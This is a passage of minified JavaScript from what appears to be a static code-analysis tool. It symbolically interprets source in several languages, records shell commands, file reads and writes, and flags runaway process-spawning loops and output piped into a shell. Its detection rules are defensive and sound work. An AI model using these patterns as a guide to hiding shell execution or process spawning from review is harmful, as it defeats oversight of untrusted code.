[],r.createInput(s)),I}let n=v.texts(e).filter(i=>O.known({kind:"text",of:[i]}));v.texts(e).some(je)&&r.fail("too-much","the code runs code that cannot be read \
to its end"),n.length===0&&r.addInvocation("eval",[e]),t.depth>Pv&&r.fail("too-deep","code in code is nested too deeply"),r.step(Math.ceil(n.join("").length/4));
let o=i=>t.nestIn(Pr(i,t.language.lexer)).interpret();return n.map(o).at(-1)??I}var Dv=400;function Mp(t){let e=ae(t.tokens,t.at,t.end,[":"],!1),s=tr(t.tokens,t.at,e);return Fp(t,s,e+1)}function Fp(t,e,s){return t.at=ae(t.tokens,s,t.end,[",",
")","]","}",";"]),t.collector.step(t.at-s),xs(t,{parameters:e,from:s,to:t.at,expression:!0})}function Ir(t,e,s,r){let n=te(t.tokens,s,t.end);return t.at=Math.min(
n+1,t.end),xs(t,{parameters:e,from:s+1,to:n,name:r})}var Fo=(t,e,s)=>P(t.tokens[s],"{")?Ir(t,e,s):Fp(t,e,s);function Vo(t){let{tokens:e}=t,s=t.at,r=P(e[s],"*");
P(e[s],"*","&")&&(s+=1);let n=e[s],o=n?.kind==="name"?n.text:void 0;o!==void 0&&(s+=1);let[i,a]=Uo(e,s);if(s=ae(e,a,Math.min(t.end,a+Dv),["{",";","=>"],!1),P(e[s],
"=>"))return Fo(t,i,s+1);if(!P(e[s],"{"))return;let l=Ir(t,i,s,o);return l.definition.later=r,o!==void 0&&t.scope.declare(o,l),l}function Uo(t,e,s){if(!P(t[e],"\
("))return[[],e];let r=te(t,e,s);return[tr(t,e+1,r),r+1]}function tr(t,e,s){let r=[];for(let n=e,o=e;n<s;n=o+1){o=ae(t,n,s,[","],!1);let i=t.slice(n,o),a=["**",
"*","..."].find(g=>P(i[0],g)),l=g=>L(g,"private","public","protected","readonly"),c=i.some(l)||void 0,d=i.findIndex(g=>g.kind==="name"&&!l(g)||P(g,"{","[","(")),
[u,p]=[i[d],i[d+1]],f=ae(t,n,o,["=",":="],!1),m=f<o?f+1:void 0,h=p?.kind==="name"&&p.text.startsWith("$")?p:u;h?.kind==="name"?r.push({name:h.text,rest:a,usual:m,
field:c}):u&&r.push({name:"",pattern:n+d,usual:m})}return r}function xs(t,e){let{tokens:s,scope:r}=t,n={tokens:s,scope:r,called:!1,expression:!1,name:void 0,...e};
return t.definitions.push(n),{kind:"function",definition:n}}var bl=S.codeWords;function Vp(t){let e=t.token;return e?e.kind==="name"?!bl.following.has(e.text):P(e,":","->")&&t.language.blocks==="end"?P(e,"->")||L(t.tokens[t.
at+1]):/^(?:text|number|words|shell)$/.test(e.kind):!1}var qr=t=>Hp(t,!0);function yl({tokens:t,end:e,collector:s},r){let n=1,o=r;for(;o<e;o++){let i=t[o],a=t[o-
1];if(i.kind!=="name"||P(a,"."))continue;let l=!a||a.kind==="newline"||P(a,";","=");if(bl.opening.has(i.text)||l&&bl.leading_opening.has(i.text)?n+=1:i.text==="\
end"&&(n-=1),n===0)break}return s.step(Math.ceil((o-r)/8)),o}function wl(t){let e=t.token,s=t.at+1;if(!(t.language.blocks==="end"||P(t.tokens[s],"|"))||!(L(e,"d\
o")||P(e,"{")))return;let n=[];if(P(t.tokens[s],"|")){let a=ae(t.tokens,s+1,Math.min(t.end,s+32),["|"],!1);n=tr(t.tokens,s+1,a),s=a+1}let o=e?.kind==="mark"?te(
t.tokens,t.at,t.end):yl(t,s);t.at=Math.min(o+1,t.end);let i=ae(t.tokens,s,o,[";"])===o;return xs(t,{parameters:n,from:s,to:o,expression:i})}function Ho(t,e,s){if(kl(
t,e,s))return gn(t,s,e);let{args:r,named:n}=xl(t,e);return[...r,...n.values()]}var kl=(t,e,s)=>s!==void 0&&s<e&&t.language.blocks==="indent";function Up(t){let e=t.
at;t.evaluate(),t.at===e&&(t.at+=1)}function gn(t,e,s,r=e){let n=t.at,o=()=>w.list(gn(t.with({at:n}),e,s));r===e&&P(t.tokens[s],")")&&mn(t,o);let i=t.nest(r+1,s),
a=i.at;for(;i.at<i.end&&!L(i.tokens[i.at],"in");)i.at+=1;let l=i.at;i.at+=1;let c=i.evaluate(1);for(;i.at<i.end&&!L(i.tokens[i.at],"for");)Up(i);let d=[];for(let u of v.
elements(c)){let p=t.nest(n,e);if(Tt(p,a,l,u),i.at<i.end?d.push(...gn(p.with({end:t.end}),e,s,i.at)):d.push(p.evaluate()),t.collector.problem!==void 0)break}return t.
at=Math.min(s+1,t.end),d}function vl(t,e,s){if(kl(t,e,s)){let o=ae(t.tokens,t.at,s,[":"],!1);return o<s&&(t.at=o+1),w.list(gn(t,s,e))}let r=t.nest(t.at,e),n=new Map;
for(;r.at<r.end&&t.collector.problem===void 0;){let o=r.at,i=r.tokens[o];if(i.kind==="newline"||P(i,",",";")){r.at+=1;continue}let a=r.tokens[o+1],l=te(r.tokens,
o+1)+1;if(i.kind==="name"&&P(a,"(")&&P(r.tokens[l],"{")){n.set(i.text,Ir(r,tr(r.tokens,o+2,l-1),l));continue}let c=i.kind==="name"&&P(a,":","=>",",","}")?i.text:
void 0,d=c!==void 0&&P(a,":","=>");d&&(r.at+=1);let u=d?void 0:r.evaluate();if(r.take(":","=>"))n.set(c??v.firstText(u),r.evaluate());else if(u?.kind==="map"&&P(
i,"..."))for(let p of u.entries)n.set(...p);else u&&n.set(c??`${"\uFFFC"}${n.size}`,u);r.at===o&&(r.at+=1)}return t.at=Math.min(e+1,t.end),{kind:"map",entries:n}}
function xl(t,e,s){if(kl(t,e,s))return{args:[w.list(gn(t,s,e))],named:new Map};let r=Hp(t.nest(t.at,e),!1);return t.at=Math.min(e+1,t.end),r}function Hp(t,e){let s=[],
r=new Map,{blocks:n}=t.language,o=e&&n!=="end"?[]:[n==="indent"?"=":":"];for(;t.at<t.end&&t.collector.problem===void 0;){let i=t.at,a=t.tokens[i];if(a.kind==="n\
ame"&&P(t.tokens[i+1],...o))t.at+=2,r.set(a.text,t.evaluate());else if(t.take("**")){let c=t.evaluate();for(let[d,u]of c.kind==="map"?c.entries:[])r.set(d,u)}else
t.take("*","...")?s.push(...v.elements(t.evaluate())):s.push(t.evaluate());let l=t.at;if(t.take("=",":=")){let c=t.evaluate();Tt(t,i,l,c),s.splice(-1,1,c)}else!e&&
t.at<t.end&&!P(t.tokens[t.at],",")&&Up(t);if(!t.take(",","=>")&&e)break;t.at===i&&(t.at+=1)}return{args:s,named:r}}var{codeWords:bn,precedence:jv}=S,Wv=96;function ut(t,e=0){if(t.depth>Wv&&t.collector.fail("too-deep","expressions are nested too deeply"),!t.collector.step())return t.
at=t.end,I;t.depth+=1;let s=Hv(t,_l(t));for(;;){let r=t.token,n=r?.kind==="mark"||r?.kind==="name"?r.text:"",o=jv.get(n)??0;if(n==="?"&&e===0){t.at+=1;let i=ut(
t,1);t.take(":"),s=w.merged([i,ut(t)])}else if(n==="if"&&e===0&&t.language.blocks==="indent"){if(t.at+=1,ut(t,1),!t.take("else"))break;s=w.merged([s,ut(t)])}else{
if(o<=e)break;{let i=t.language.concatenation_operators.includes(n);if(!i&&(n==="."||n==="x"))break;t.at+=1;let a=ut(t,o);s=_o(n,s,a,i),s.kind==="text"&&t.collector.
step(s.of.reduce((l,c)=>l+(c.length>>5),0))}}if(!t.collector.step())break}return t.depth-=1,s}function _l(t){let e=t.token;if(!e||e.kind==="newline")return I;switch(t.
at+=1,e.kind){case"number":return w.number(e.number);case"words":return w.list(e.words.map(s=>w.text(s)));case"shell":return t.collector.runShellLine(Bo(t,e));case"\
text":{let s=Bo(t,e);for(let r=t.token;r?.kind==="text";r=t.token)t.at+=1,s=w.joined([s,Bo(t,r)]);return s}case"mark":return Fv(t,e);case"name":return Vv(t,e.text)}}
var Bp=t=>G.content([t])??(t.kind==="name"&&!t.self?I:t);function Mv({language:t},e,s){return e==="!"?Bp(s):e==="-"&&s.kind==="number"?w.number(-s.number):e==="\
~"?s.kind==="number"?w.number(~s.number):I:e==="&"&&s.kind==="text"&&t.blocks==="end"?w.derived("message",s):s}function Bo(t,{pieces:e}){let s=r=>typeof r=="str\
ing"?w.text(r):ut(t.nestIn(r));return w.joined(e.slice(0,64).map(s))}function Fv(t,e){let s=t.at,r=Math.min(e.close??t.end,t.end);switch(e.text){case"(":{if(P(t.
tokens[r+1],"=>"))return Fo(t,tr(t.tokens,s,r),r+2);if(t.language.bare_calls&&P(t.tokens[s+1],"=>"))return vl(t,r,e.loop);let n=Ho(t,r,e.loop);return n.length===
1&&e.loop===void 0&&!P(t.tokens[r-1],",")?n[0]:w.list(n)}case"[":return w.list(Ho(t,r,e.loop));case"{":return vl(t,r,e.loop);case":":{let n=t.language.blocks===
"end"?t.token:void 0;return t.at+=n?.kind==="name"?1:-1,n?.kind==="name"?w.text(n.text):I}case"->":return P(t.token,"(","{")?_l(t):I;default:return bn.prefix_signs.
has(e.text)?Mv(t,e.text,ut(t,9)):([")","]","}",",",";","=>"].includes(e.text)&&(t.at-=1),I)}}function Vv(t,e){let{language:s}=t,r=t.token;if(P(r,"=>")&&s.member_operators.
includes("?."))return Fo(t,[{name:e}],t.at+1);if(e==="if"&&t.collector.source==="other")return Uv(t);if(e==="not")return Bp(ut(t,3));if(bn.prefixing.has(e)||bn.
perl_declaring.has(e)&&s.bare_calls)return ut(t,9);let n=s.bare_calls&&s.blocks==="braces";if(bn.block_lists.has(e)&&P(r,"{")&&n){let i=Ir(t,[{name:"$_"}],t.at),
a=v.flat(qr(t).args),l=a.map(c=>t.call(i,c));return w.list(e==="map"?v.flat(l):a)}return e==="lambda"&&s.blocks==="indent"?Mp(t):(s.function_keywords.includes(e)||
e==="function"||e==="fn"?Vo(t):void 0)??t.lookUp(e)}function Uv(t){let{tokens:e}=t,s=()=>{if(!P(t.token,"{"))return ut(t);let n=te(e,t.at,t.end),o=t.nest(t.at+1,
n).interpret();return t.at=n+1,o};P(t.token,"(")?_l(t):t.at=ae(e,t.at,t.end,["{"]);let r=s();return t.take("else")?w.merged([r,s()]):r}function Hv(t,e){let s=t.
language.bare_calls&&t.language.blocks==="braces",r=t.language.member_operators.includes("?."),n=e;for(;t.collector.step();){let o=t.language.bare_calls?zv(t,n):
void 0;if(o){n=o;continue}let i=t.token;if(i?.kind==="text"&&r&&(n.kind==="name"||G.client(n))){t.at+=1,n=t.call(n,Bo(t,i));continue}if(i?.kind!=="mark")break;let a=t.
tokens[t.at+1],l=Math.min(i.close??t.end,t.end),c=t.language.member_operators.includes(i.text),d=n.kind==="name"&&/^[$%]/.test(n.path),u=n.kind==="map"||d||P(t.
tokens[t.at-1],"->");if(c&&a?.kind==="name")t.at+=2,n=t.getMember(n,a.text),i.text==="->"&&t.language.bare_calls&&!P(t.token,"(")&&(n=t.call(n));else if(i.text===
"(")t.at+=1,n=$l(t,n,xl(t,l,i.loop));else if(i.text==="["||i.text==="{"&&s&&u)t.at+=1,n=Gv(t,n,l,i.text==="{");else if(/^(?:->|\?\.)$/.test(i.text)||i.text==="!"&&
r)t.at+=1;else if(c&&P(a,"("))t.at+=1;else break}return Bv(t),n}function Bv(t){let{tokens:e,language:s}=t;if(!(L(t.token,"as","satisfies")&&L(e[t.at+1]))||!s.member_operators.
includes("?."))return;t.at+=2;let n=o=>P(e[o],".","|","&","<",">","[")||P(e[o-1],".","|","&","<");for(;t.at<t.end&&n(t.at);)t.at=te(e,t.at,t.end)+1}function $l(t,e,s){
let r=wl(t);return t.apply(e,r?{...s,args:[...s.args,r]}:s)}function zv(t,e){if(e.kind!=="name"||/^[$@%]/.test(e.path))return;let s=t.language.functions,r=e.path.
includes(".")&&is(t.language,e.path)!==void 0;if(P(t.token,"*","[")&&s.has(e.path)||Vp(t))return $l(t,e,qr(t));if(!t.token||P(t.token,";",",",":")||L(t.token,...bn.
behind_calls)){let c=/^(?:shift|pop)$/.test(e.path)?"@_":"$_",d=t.language.blocks==="braces"?t.scope.get(c):void 0;return s.has(e.path)||t.language.blocks==="en\
d"&&(e.self||r)?$l(t,e,d?No(d):No()):void 0}if(t.language.blocks!=="end"||P(t.token,"("))return;let i=P(t.token,...t.language.member_operators);if(i&&/(?:^|\.)[A-Z]\w*$/.
test(e.path)&&!e.self)return;let a=wl(t),l=i&&e.path.includes(".")||s.has(e.path)||r;return a||e.self||l?t.call(e,...a?[a]:[]):void 0}function Gv(t,e,s,r=!1){let n=t.
at,o=e.kind==="name"?`${e.path}.[]`:"";if(t.language.functions.has(o))return t.call(w.name(o),...Ho(t,s));let i=t.nest(n,s),a=[];for(;i.at<i.end&&a.length<3&&t.
collector.problem===void 0&&(a.push(P(i.token,":")?void 0:ut(i)),!!i.take(":",".."));)i.at>=i.end&&a.push(void 0);if(t.at=Math.min(s+1,t.end),a.length>1)return So(
e,a);let[l]=a;if(e.kind==="list")return l?.kind==="number"?e.items.at(l.number)??I:w.merged(e.items);let c=r&&i.end-n===1?i.tokens[n]:void 0,d=c?.kind==="name"&&
/^\w/.test(c.text)?c.text:v.firstText(l),u=!d.includes("\uFFFC"),p=c?[d]:v.texts(l);return e.kind==="map"?u?w.merged(p.map(f=>t.getMember(e,f))):Kv(e):u&&(e.kind===
"name"||e.kind==="choice"||G.client(e))?w.choice(p.map(f=>t.getMember(e,f))):e.kind==="name"&&e.path==="db"?w.name("db.collection"):e.kind==="content"||e.kind===
"made"?e:G.client(e)??I}function Kv({entries:t}){let e=[...t.values()];return e.some(({kind:s})=>s==="content")?I:w.merged(e)}var{codeWords:sr,forms:Sl}=S;function zp(t){let{tokens:e,language:s}=t,r=s.blocks==="indent";if(s.blocks==="end"||s.bare_calls)return;let n=te(e,t.at,t.end),o=r?
ae(e,t.at,t.end,[":"]):n+1;if(Xv(t,r?o:n))return;let i=P(e[t.at],"(")&&n===o-1,a=e.slice(i?t.at+1:t.at,i?n:o),l=L(a[0],"not")||P(a[0],"!"),[c,d,u,...p]=l?a.slice(
1):a;if(c?.kind!=="name"||p.length>0||!P(e[o],r?":":"{")||d&&!(P(d,".")&&u))return;let f=u?ex(t,c.text,u):tx(t,c.text);if(f===void 0)return;let m=rr(t,t.at-1,o);
f!==l&&t.nest(o,m).interpret(),t.at=f!==l?sx(t,m):m}var Yv=40,Qv=3;function Xv(t,e){let{tokens:s,scope:r}=t,n=s.slice(t.at,e),o=!n.some(x=>L(x,"or","not")||P(x,
...sr.alternating)),i=x=>P(x,"==","===")||L(x,"in",...sr.ending),a=n.findIndex(i),l=L(n[a],...sr.ending)?a-1:a;if(!o||l<1||n.length>Yv)return!1;let c=L(n[l-1],"\
name")&&P(n[l-2],"."),d=n[c?l-3:l-1],u=d?.kind==="name"?r.get(d.text):void 0;if(d?.kind!=="name"||u===void 0||!O.made(u,"dirent")&&!O.glob(u))return!1;let p=Zv(
t,t.at+l,e),f=rr(t,t.at-1,e+1),m=s.slice(e,f),h=m.some((x,_)=>L(x,d.text)&&P(m[_+1],...sr.setting)),g=m.some(x=>L(x,...sr.later)||P(x,"=>")),y=p&&!h&&!g&&Jv(u,p);
return y?(r.set(d.text,y),t.nest(e+1,f).interpret(),r.set(d.text,u),t.at=f,!0):!1}function Jv(t,e){if(t.kind==="made")return w.derived("dirent",t.args[0]??e,e);
let s=v.texts(t).map(r=>r.endsWith("**")?`${r}/`:Sl.entry_path.exec(r)?.[1]);if(!s.some(r=>r===void 0))return w.glob(w.text(...s.flatMap(r=>v.texts(e).map(n=>`${r}${n}`))))}
function Zv(t,e,s){let{tokens:r}=t,n=r[e+1],o=r.filter(p=>n.kind==="name"&&L(p,n.text)).length,i=L(r[e+1],...sr.ending),a=t.nest(i?e+2:e+1,s).evaluate(Qv+1),l=L(
r[e],"in"),c=a.kind==="list"||a.kind==="map"?v.elements(a):[],d=l||i&&c.length>0?c:[a];if(!(!(d.length>0&&d.every(p=>p.kind==="text"&&!p.glob&&O.known(p)))||o>2&&
!i))return i?w.text(...d.flatMap(v.texts).map(p=>`*${p}`)):w.merged(d)}function ex(t,e,s){let{tokens:r,scope:n,collector:o}=t,i=n.get(e);if(s.kind!=="name"||i?.
kind!=="map"||i.entries!==o.options)return;let l=r.some((c,d)=>L(c,s.text)&&P(r[d+1],"="))||!o.signs.has("plain-switches")?void 0:i.entries.get(s.text);return l?.
kind==="name"&&Sl.true_or_false.test(l.path)?l.path==="True":void 0}function tx({tokens:t,scope:e,collector:s,language:r},n){let o=e.get(n);if(o?.kind!=="name"||
o.self||!Sl.true_or_false.test(o.path)||s.signs.has("sets-names")||t.some(m=>m.kind==="text"&&m.pieces.includes(n)))return;let i=[...t.keys()].filter(m=>L(t[m],
n)),[a=0,...l]=i,c=t[a-1],d=a===0||c?.kind==="newline"&&c.indent===0,u=r.blocks==="indent"?d:L(c,"const"),p=m=>t[m+1]?.kind==="newline"||P(t[m+1],":",")","?","&\
&","||",";","}"),f=P(t[a+1],"=")&&l.every(p);return u&&f&&!i.some(m=>L(t[m-1],...sr.changing))?/^t/i.test(o.path):void 0}function rr(t,e,s){let{tokens:r,language:n,
end:o}=t;return n.blocks==="indent"?Ar(r,e,s,o):P(r[s],"{")?te(r,s,o)+1:n.blocks==="end"?yl(t,s):ae(r,s,o,[";"])+1}function sx(t,e){let{tokens:s}=t,r=e;for(let n=r;n<
t.end;n=r){for(;s[n]?.kind==="newline";)n+=1;if(!L(s[n],"else","elif"))break;let i=L(s[n+1],"if")?te(s,n+2,t.end)+1:n+1;if(t.language.blocks!=="indent"&&!P(s[i],
"{"))break;r=rr(t,n,i)}return r}var{codeWords:Go}=S,rx=24;function Qp(t){let e=I;for(;t.at<t.end&&t.collector.step();){let s=t.at,r=t.tokens[s],n=P(t.tokens[te(t.tokens,s)+1],"=");r.kind==="ne\
wline"||P(r,...Go.ending_signs)&&!n?t.at+=1:e=nx(t,r)??e,t.at===s&&(t.at+=1)}return e}function nx(t,e){if(P(e,"@")&&t.language.blocks==="indent")return ix(t);if(e.
kind!=="name")return Gp(t)??yn(t);let{language:s}=t;if(s.blocks!=="braces"&&s.function_keywords.includes(e.text)&&Xp(t))return;let r=Object.hasOwn(Kp,e.text)?Kp[e.
text]:void 0,n=e.text==="import"||e.text==="from",o=P(t.tokens[t.at+1],"(");if(n&&!o&&(s.blocks==="indent"||s.member_operators.includes("?.")))ux(t,e.text);else if(r||
Go.skipped.has(e.text))t.at+=1,r?.(t);else return Gp(t)??yn(t)}function Gp(t){let{tokens:e,language:s,at:r}=t;if(!s.bare_calls||s.blocks!=="braces")return;let n=a=>L(
e[a],"for","foreach"),o=r;for(;o<t.end&&!P(e[o],";","{","}")&&!n(o);)o=te(e,o)+1;if(o===r||o>=t.end||!n(o))return;t.at=o+1;let i=t.evaluate();return t.scope.set(
"$_",er(i.kind==="list"?i:w.list([i]))),t.nest(r,o).interpret(),I}var Kp={return:t=>{t.tokens[t.at]?.kind!=="newline"&&t.returnValues.push(yn(t))},yield:t=>{let e=t.
take("from","*"),s=yn(t);t.returnValues.push(e?s:w.list([s]))},echo:t=>t.collector.recordPrint(qr(t).args,"",""),if:zp,for:Yp,foreach:Yp,with:ox,del:t=>{let[e,s,
r]=t.tokens.slice(t.at,t.at+3),n=e?.kind==="name"?t.lookUp(e.text):I;O.made(n,"store")&&P(s,"[")&&L(r)&&t.call(w.name("clear",n))},class:zo,module:zo,interface:zo,
namespace:zo};function yn(t){let e=[],s=t.language.blocks!=="braces";for(let o=ml(t,s);o!==void 0;o=ml(t,!1))e.push([t.at,o,t.tokens[o].text]),t.at=o+1;let r=s?
qr(t).args:[t.evaluate()],n=r.length===1?r[0]:w.list(r);for(let[o,i,a]of e.reverse()){if(a==="+="||a===".="){let l=t.tokens[o],c=l?.kind==="name"?t.lookUp(l.text):
I;n=_o("+",c,n,!0)}Tt(t,o,ae(t.tokens,o,i,[":"],!1),n)}return n}function ox(t){let{tokens:e,collector:s}=t,r=ae(e,t.at,t.end,[":"]);if(t.language.blocks!=="inde\
nt"||!P(e[r],":"))return;let n=t.at-1,o=te(e,t.at)===r-1&&P(e[t.at],"("),i=t.nest(o?t.at+1:t.at,o?r-1:r),{imitations:a}=s;for(;i.at<i.end&&s.step();){let c=jo(i,
i.evaluate()),d=ae(e,i.at,i.end,[","]);L(e[i.at],"as")&&Tt(i,i.at+1,d,c),i.at=d+1}if(t.at=r+1,s.imitations===a)return;let l=Ar(e,n,r,t.end);t.nest(t.at,l).interpret(),
t.at=l,jt(t,a)}function ix(t){let{tokens:e}=t,s=[];for(;t.take("@")&&t.collector.step();)for(s.unshift(t.evaluate());e[t.at]?.kind==="newline"&&t.at<t.end;)t.at+=
1;t.take("async"),L(e[t.at],"def")&&Xp(t,s)}function Xp(t,e=[]){let{tokens:s}=t;if(!L(s[t.at+1]))return!1;let r=t.at+2;P(s[r],".")&&L(s[r+1])&&(r+=2);let n=s[r-
1].text,[o,i]=Uo(s,r,t.end),a=P(s[i],"="),l=a?ae(s,i,t.end,[";"]):rr(t,t.at,i),c=a?i+1:i,d=L(s[t.at-1],"async"),p=e.length>0&&s.slice(c,l).some(m=>L(m,"yield"))?
[]:e,f=xs(t,{parameters:o,from:c,to:l,expression:a,name:n,later:d,mocks:p});t.scope.declare(n,f),t.at=l;for(let m of e)m.kind==="function"&&t.call(m,f);return!0}
function Yp(t){t.take("await");let e=P(t.tokens[t.at],"("),s=lx(t,e);if(!s)return;let[r,n,o]=s;t.at=r;let i=t.evaluate();if(n<o&&i.kind==="list"&&O.uneven(i.items)){
ax(t,i.items,n,o);return}let a=er(t.language.bare_calls&&i.kind==="text"?w.list([i]):i);n<o?Tt(t,n,o,a):t.scope.set("$_",a)}function ax(t,e,s,r){let n=t.language.
blocks==="indent"?t.at:t.at+1,o=rr(t,s,n);for(let i of e)Tt(t,s,r,i),i!==e.at(-1)&&t.nest(n,o).interpret()}function lx(t,e){let{tokens:s,at:r,end:n,language:o}=t,
i=e?r+1:r,a=e?te(s,r,n):n;for(let l=i;l<Math.min(a,i+rx);l++){if(L(s[l],"in","of"))return[l+1,i,l];if(e&&L(s[l],"as"))return[i,P(s[l+2],"=>")?l+3:l+1,a];if(!e&&
P(s[l],"(")&&l>i)return[l,i,l];if(e&&P(s[l],"{","["))l=te(s,l,a);else if(P(s[l],";","{")||s[l]?.kind==="newline")break}return e&&o.bare_calls?[r,r,r]:void 0}var cx=4e3;
function dx(t,e){let{tokens:s,language:r}=t,n=Math.min(t.end,t.at+cx),o=r.blocks==="end"?`${e}.new`:e,i=t.at+1,a=!1;for(;i<n&&!L(s[i],...Go.constructors,"class");)
a||=L(s[i],"__getattr__","method_missing","__call__"),i+=1;if(a&&t.scope.declare(o,xs(t,{parameters:[],from:t.at,to:t.at,name:e})),i>=n||!P(s[i+1],"("))return;let[
l,c]=Uo(s,i+1,t.end),d=r.blocks==="braces"?ae(s,c,t.end,["{"],!1):c,u=rr(t,i-1,d);t.scope.declare(o,xs(t,{parameters:l,from:d,to:u,name:e}))}function zo(t){let e=t.
tokens[t.at];if(e?.kind==="name"&&dx(t,e.text),t.at=ae(t.tokens,t.at,t.end,["{",":",";"]),!t.language.member_operators.includes("?.")||!P(t.tokens[t.at],"{"))return;
let s=te(t.tokens,t.at,t.end);for(t.at+=1;t.at<s&&t.collector.step();){let r=t.tokens[t.at],n=t.tokens[t.at+1],o=r?.kind==="name"&&P(n,"(")&&!Go.skipped.has(r.text);
r?.kind==="name"&&P(n,"=")?yn(t):(!o||!Vo(t))&&(t.at+=1)}}function ux(t,e){let{tokens:s,scope:r}=t,n=ae(s,t.at+1,t.end,[";"]),o=s.slice(t.at,n).find(({kind:c})=>c===
"text"),i=o?.kind==="text"?String(o.pieces[0]).replace(/^node:/,""):void 0;t.at+=1;let a=()=>{let c="";for(;t.at<n&&(c===""||c.endsWith(".")||P(s[t.at],"."));){
let d=s[t.at],u=d.kind==="name"||P(d,".")?d.text:"";if(["","import","as","from"].includes(u))break;c+=u,t.at+=1}return c},l=e==="from"?`${a()}.`:"";for(;t.at<n;t.
at++){let c=P(s[t.at],"*");if(P(s[t.at],"{")&&(l=`${i}.`),c&&i===void 0){r.set("*",w.alternatives([...v.texts(r.get("*")),l.slice(0,-1)]));continue}c&&(t.at+=1);
let d=a();if(d===""&&!c)continue;let u=l===""&&i!==void 0?i:`${l}${d}`,p=L(s[t.at],"as")?s[t.at+1]:void 0,f=p?.kind==="name"?p.text:d;t.collector.modules.add(i??
u.split(".")[0]);let m=t.language.blocks==="indent"?t.collector.imitations.get(u):void 0;f!==u&&r.set(f,m??r.get(u)??w.name(u)),p&&(t.at+=1)}t.at=n}var px=9,Zp=64;function ef(t,e){let s=Pr(t,S.awkLexer),r=fx(e.input),n=i=>Jp(s,i,r),o=-1;for(let i=0;i<s.length&&e.step();i++){let a=s[i],l=s[i+1];if(a.kind==="\
name"&&P(l,"=")&&r.set(a.text,n(i+2)),L(a,"print","printf"))o=i,e.recordPrint([n(i+1)]);else if(a.kind==="newline"||P(a,";","}","{"))o=-1;else if(L(a,"system")&&
P(l,"("))e.runShellLine(n(i+2));else if(o>=0&&P(a,">",">>"))e.recordWrite(n(i+1),void 0,P(a,">>"));else if(P(a,"|","|&")){if(o>=0){let c=n(i+1);e.runShellLine(c),
/^(?:\S*\/)?(?:ba|da|z|k)?sh$/.test(v.texts(c)[0])&&e.runShellLine(n(o+1))}else if(L(l,"getline")){let c=s.slice(Math.max(0,i-Zp),i),d=p=>!/^(?:text|name|number)$/.
test(p.kind)&&!P(p,"$"),u=c.findLastIndex(d)+1;e.runShellLine(Jp(c,u,r))}}else if(L(a,"getline")){let c=s.slice(i+1,i+4).findIndex(d=>P(d,"<"));c>=0&&e.readFile(
n(i+2+c))}}}function fx(t){let e=new Map,{args:s,environment:r,separator:n=" "}=t;for(let[a,l]of t.variables)e.set(a,w.text(Za(l)));for(let[a,l]of s.entries())e.
set(`ARGV[${a+1}]`,Dt(l));for(let[a,l]of Object.entries(r))e.set(`ENVIRON[${a}]`,Dt(l));let o=Ys(t);if(!o)return e;let i=v.texts(o);if(e.set("$0",w.alternatives(
i)),/^[^\\.*+?[\]^$|()]$/.test(n)){let a=i.map(l=>n===" "?l.trim().split(/\s+/):l.split(n));for(let l=1;l<=px;l+=1)e.set(`$${l}`,w.alternatives(a.map(c=>c[l-1]??
"")));e.set("$NF",w.alternatives(a.map(l=>l.at(-1)??"")))}return e.set("$",w.text(i.some(a=>!a.includes("\uFFFC"))?"\uFFFC\uFFFB":"\uFFFC")),e}var Cl=t=>t?.kind===
"text"?typeof t.pieces[0]=="string"?t.pieces[0]:"":t?.kind==="number"?String(t.number):t?.kind==="name"||t?.kind==="mark"?t.text:"";function Jp(t,e,s){let r=[];
for(let n=e;n<Math.min(t.length,e+Zp);n++){let o=t[n];if(o.kind==="text")r.push(w.text(Cl(o)));else if(o.kind==="name"){let i=P(t[n+1],"[")&&P(t[n+3],"]"),a=i?`${o.
text}[${Cl(t[n+2])}]`:o.text;r.push(s.get(a)??w.text("\uFFFC")),i&&(n+=3)}else if(P(o,"$")){let i=s.get(`$${Cl(t[n+1])}`);r.push(i??s.get("$")??w.text("\uFFFC")),
n+=1}else if(!P(o,"(")||r.length>0)break}return r.length===0?w.text("\uFFFC"):w.joined(r)}var Al=S.codeWords,Tl=1e3,mx=64,hx=10;function rf(t){if(!El(t))return!1;let e=[],s=[];for(let r=0;r<t.length&&e.length+s.length<mx;r++){let n=gx(t,r);n&&e.push(
t.slice(...n));let o=bx(t,r);if(!o)continue;let[i,a]=o.span,l=t.slice(i,Math.min(a,i+Tl));El(l)&&!sf(l)&&s.push(o.name),tf(l,[o.name])&&!yx(l)&&e.push(l)}return e.
some(r=>(El(r)||tf(r,s))&&!sf(r))}function gx(t,e){let s=t[e],r=t[e+1];if(L(s,"loop")&&(P(r,"{")||L(r,"do")))return Ko(t,e+1);let n=P(r,"("),o=n?te(t,e+1)+1:e+2;
if(L(s,"setInterval")&&n){let u=t[o-2];return(u?.kind==="number"?u.number>hx:!P(u,")","}"))?void 0:[e+2,o-1]}if(L(s,"for")&&n&&t.slice(e+2,e+4).every(u=>P(u,";")))
return Ko(t,o);if(!L(s,"while","until")||n&&o!==e+4)return;let i=t[n?e+2:e+1],a=L(i,"true","True")||i?.kind==="number"&&i.number!==0;if(L(s,"while")?!a:!L(i,"fa\
lse"))return;let l=t[o];if(l!==void 0&&!P(l,";","}"))return Ko(t,o);let c=Math.max(0,e-Tl),d=u=>P(u,";","{")||u.kind==="newline";return[c+t.slice(c,e).findLastIndex(
d)+1,e]}function bx(t,e){let s=L(t[e],"function","def","sub"),r=t[s?e+1:e];if(r?.kind!=="name"||!(s||P(t[e+1],"=")))return;let n=e+2;for(;!s&&L(t[n])&&n<e+4;)n+=
1;P(t[n],"(")&&(n=te(t,n)+1);let o=P(t[n],"=>");if(!(!s&&!o&&!L(t[e+2],"function")))return{name:r.text,span:Ko(t,o?n+1:n)}}var tf=(t,e)=>t.some((s,r)=>e.some(n=>L(
s,n))&&P(t[r+1],"(")),yx=t=>t.some(e=>L(e,"if","unless","case","switch")||P(e,"?","&&","||")),sf=t=>t.some(e=>L(e,...Al.waiting)),El=t=>t.some((e,s)=>{if(e.kind!==
"name")return!1;if(Al.spawning.has(e.text))return!0;let r=t.slice(s+1,s+5).find(o=>o.kind==="text"),n=Al.shells.has(e.text)?r?.pieces.at(-1):void 0;return typeof n==
"string"&&/&\s*$/.test(n)});function Ko(t,e){let s=Math.min(t.length,e+Tl);return P(t[e],"{")?[e+1,te(t,e)]:L(t[e],"do")?[e+1,t.length]:P(t[e],":")?[e+1,Ar(t,e,
e,s)]:[e,ae(t,e,s,[";"])]}var{forms:nr}=S;function nf(t){let e=[...t.matchAll(nr.test_clause)];if(e.length===0)return!1;let s=lf(t),r=o=>/\$_|^\s*\(?\s*m?\//.test(o)||Pl(o).some(i=>s.has(
